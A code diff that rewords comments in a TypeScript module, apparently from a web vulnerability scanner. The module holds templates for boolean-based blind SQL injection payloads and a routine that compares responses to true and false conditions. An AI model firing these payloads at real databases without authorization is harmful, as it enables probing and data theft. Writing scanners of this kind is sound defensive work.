@@ -4,7 +4,7 @@
  */
 import { type AttackRequest, HERE } from './attack-requests.ts';
 
-/** The forms in which a condition would be executed if a value were taken for SQL. */
+/** The forms of a value that would execute a condition if the value became part of the SQL. */
 const FORMS: readonly ((value: string, condition: string) => string)[] = [
   (value, condition) => `${value} AND ${condition}`,
   (value, condition) => `${value}' AND ${condition} AND 'a'='a`,
@@ -12,7 +12,7 @@ const FORMS: readonly ((value: string, condition: string) => string)[] = [
   (value, condition) => `${value}' || (SELECT CASE WHEN ${condition} THEN '' ELSE 'b' END) || '`,
   (_value, condition) => `(SELECT (CASE WHEN (${condition}) THEN 'a' ELSE (SELECT 'a' UNION SELECT 'b') END))`,
 ];
-/** Of the same length, so no limit distinguishes them. */
+/** Equally long, so that no length limit distinguishes them. */
 const [TRUE, FALSE] = ['7=7', '7=8'];
 
 interface InsertionPoint {
@@ -55,7 +55,7 @@ async function findDifference(
   answerTo: (value: string) => Promise<Answer>,
 ): Promise<string | undefined> {
   const answers: Answer[] = [];
-  // In turn: counters and times differ between two equal requests.
+  // Alternating, because counters and times differ between two equal requests.
   for (const condition of [TRUE, FALSE, TRUE, FALSE]) answers.push(await answerTo(form(value, condition)));
   const [held, refused, heldAgain, refusedAgain] = answers;
   const parts = new Set(answers.flatMap((answer) => [...answer.keys()]));
